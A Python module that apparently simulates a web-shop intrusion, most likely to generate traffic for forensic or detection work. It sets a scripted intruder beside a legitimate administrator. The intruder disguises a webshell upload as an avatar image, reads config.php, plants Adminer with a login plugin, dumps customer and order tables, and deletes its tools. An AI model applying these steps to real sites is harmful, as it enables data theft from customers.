"""The intruder of the true world, and the administrator of the twin. Both are
generators like the visitors; what they yield names the point reached."""

import os

from .adminer import Adminer
from .web import Browser

DISGUISES = ["me.php", "avatar.jpg.php", "profile.php", "photo.phtml", "img_0042.php"]
ADMINERS = ["adminer.php", "adm.php", "db.php", "cache.php", "a.php", "lang.php"]
PLUGINS = ["login.php", "pma.php", "dbx.php", "index2.php", "t.php"]
FOLDERS = ["uploads", "uploads", "css", "js", "img", ""]


def above(folder):
    """How a script in this folder of the web root reaches the database beside the web root."""
    return "../" * (folder.count("/") + 1 if folder else 0) + "../shop.sqlite"


class Plan:
    """Everything about the intrusion that the seed decides before the first request."""

    def __init__(self, rng, variants):
        self.variant = rng.choice(variants)
        self.prefix = rng.choice(["", "", "GIF89a;\n"])
        self.disguise = rng.choice(DISGUISES)
        self.folder = rng.choice(FOLDERS)
        self.adminer = rng.choice(ADMINERS)
        self.plugin = rng.choice(PLUGINS)
        self.build = rng.choice(["full", "full", "english", "german"])
        self.strips_header = rng.random() < 0.25
        self.tries_bare_adminer = rng.random() < 0.5
        self.looks_at_picture = rng.random() < 0.5
        self.second_address = rng.random() < 0.35
        self.form = rng.choice(["csv", "csv", "sql"])
        self.more_tables = rng.random() < 0.4
        self.deletes_adminer = rng.random() < 0.5
        self.rotate = rng.choice([None, "before", "during", "after"])
        # deleted before leaving, named from the folder of uploads
        back = "" if self.folder == "uploads" else os.path.join("..", self.folder, "")
        self.leftovers = [back + self.adminer, back + self.plugin]

    def path(self, name):
        return os.path.join(self.folder, name)


class Intruder:
    def __init__(self, rng, plan, specimen, adminer, version, addresses, port, record, person):
        self.rng, self.plan, self.specimen = rng, plan, specimen
        self.adminer, self.version, self.person = adminer, version, person
        self.seen = {}
        self.first = Browser(port, addresses.next(), "Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0", record)
        self.second = self.first
        if plan.second_address:
            self.second = Browser(port, addresses.next(), rng.choice(["python-requests/2.32.3", "curl/8.9.1", self.first.agent]), record)
        self.exports = []

    def clients(self):
        return sorted({self.first.address, self.second.address})

    def play(self):
        yield from self.register()
        yield from self.upload()
        yield from self.use()
        yield from self.drop()
        yield from self.browse()
        yield from self.take()
        yield from self.tidy()
        self.first.close()
        self.second.close()

    def register(self):
        b = self.first
        b.get("/", tag="arrival")
        yield
        b.get("/css/site.css", referer="/")
        yield
        csrf = b.get("/register.php", referer="/").hidden("csrf")
        yield
        email, phone, name, city = self.person
        b.post("/register.php", {"csrf": csrf, "email": email, "phone": phone or "", "full_name": name, "city": city or "",
                                 "password": "%016x" % self.rng.getrandbits(64)}, referer="/register.php", tag="register")
        yield
        self.csrf = b.get("/account.php", referer="/register.php").hidden("csrf")
        yield "registered"

    def upload(self):
        b = self.first
        b.get("/avatar.php", referer="/account.php")
        yield
        done = b.post("/avatar.php", {"csrf": self.csrf},
                      files={"picture": (self.plan.disguise, "image/jpeg", self.specimen.bytes())},
                      referer="/avatar.php", tag="upload")
        if done.headers.get("location") != "/account.php":
            raise RuntimeError("the shop refused the specimen")
        yield
        shown = b.get("/account.php", referer="/avatar.php").text
        self.specimen.url = "/uploads/" + shown.split('src="/uploads/')[1].split('"')[0]
        yield
        if self.plan.looks_at_picture:      # what a browser does by itself: no token, so 404
            b.get(self.specimen.url, referer="/account.php", tag="probe")
            yield
        yield "uploaded"

    def use(self):
        tag = "first_use"
        for command in self.specimen.commands(self.rng):
            answer = self.specimen.run(self.second, command, tag=tag)
            self.seen[command] = answer.text
            tag = None
            if answer.status != 200:
                raise RuntimeError(f"the specimen answered {answer.status}")
            yield
        if "shop.sqlite" not in self.seen["cat ../config.php"]:
            raise RuntimeError("the specimen did not show config.php")
        yield "used"

    def put(self, name, data, tag):
        answer = self.specimen.write(self.second, self.plan.path(name), data, tag=tag)
        if not answer.text.removeprefix(self.plan.prefix).startswith("ok"):
            raise RuntimeError(f"the specimen did not write {name}")

    def drop(self):
        plan, b = self.plan, self.second
        self.put(plan.adminer, self.adminer, "adminer_drop")
        yield "dropped"
        if plan.tries_bare_adminer:         # learns that SQLite needs a login plugin
            bare = Adminer(b, "/" + plan.path(plan.adminer), above(plan.folder))
            bare.open(tag="adminer_first")
            yield
            if bare.login(tag="adminer_refused"):
                raise RuntimeError("Adminer let us in without a plugin")
            yield
        self.put(plan.plugin, self.specimen.login_plugin(plan.adminer), "plugin_drop")
        yield

    def browse(self):
        plan, b = self.plan, self.second
        b.cookies["k"] = self.specimen.token
        self.tool = tool = Adminer(b, "/" + plan.path(plan.plugin), above(plan.folder))
        tool.open(tag="tool_first")
        yield
        for _ in tool.dress(self.version):
            yield
        if not tool.login(tag="login"):
            raise RuntimeError("Adminer did not let us in")
        yield "in"
        for query in ("script=db", "table=customers", "select=customers", "select=customers&page=1",
                      "select=orders", "table=orders"):
            tool.page(query)
            yield
        yield "browsed"

    def take(self):
        plan = self.plan
        tables = ["customers"] + (["orders", "newsletter"] if plan.more_tables else [])
        # several tables as CSV would come as one tar: taken one after the other, as people do
        rounds = [tables] if plan.form == "sql" else [[t] for t in tables]
        for some in rounds:
            answer = self.tool.export(some, plan.form, tag="dump" if "customers" in some else "dump_more")
            if answer.status != 200:
                raise RuntimeError(f"the export answered {answer.status}")
            self.exports.append((some, answer.body, answer.headers))
            yield
        yield "taken"

    def tidy(self):
        self.tool.logout()
        yield
        if self.plan.deletes_adminer:
            answer = self.specimen.run(self.second, self.specimen.tidy, tag="deletion")
            if answer.status != 200:
                raise RuntimeError("the specimen did not tidy up")
            yield
        yield "gone"


class Administrator:
    """Uses an Adminer that has always been there, with a name and a password nginx asks for."""

    def __init__(self, rng, browser, version, name, authorization):
        self.rng, self.browser, self.version = rng, browser, version
        self.name, self.authorization = name, authorization
        self.tables = rng.choice([["customers"], ["orders"], ["products"], ["newsletter"], ["customers", "orders"]])
        self.form = "sql" if len(self.tables) > 1 else rng.choice(["csv", "sql"])
        self.rotate = rng.choice([None, "before", "during", "after"])
        self.exports = []

    def clients(self):
        return [self.browser.address]

    def play(self):
        b = self.browser
        b.get("/admin/", tag="arrival")             # the browser asks first and is told to sign in
        yield
        b.extra["Authorization"], b.user = self.authorization, self.name
        tool = Adminer(b, "/admin/", above("admin"))
        tool.open(tag="tool_first")
        yield
        for _ in tool.dress(self.version):
            yield
        if not tool.login(tag="login"):
            raise RuntimeError("Adminer did not let the administrator in")
        yield "in"
        for query in self.rng.sample(["select=orders", "table=orders", "select=products", "select=customers",
                                      "select=newsletter", "table=customers", "select=mail_queue"], 4):
            tool.page(query)
            yield
        yield "browsed"
        answer = tool.export(self.tables, self.form, tag="dump")
        self.exports.append((self.tables, answer.body, answer.headers))
        yield "taken"
        tool.logout()
        yield "gone"
        b.close()
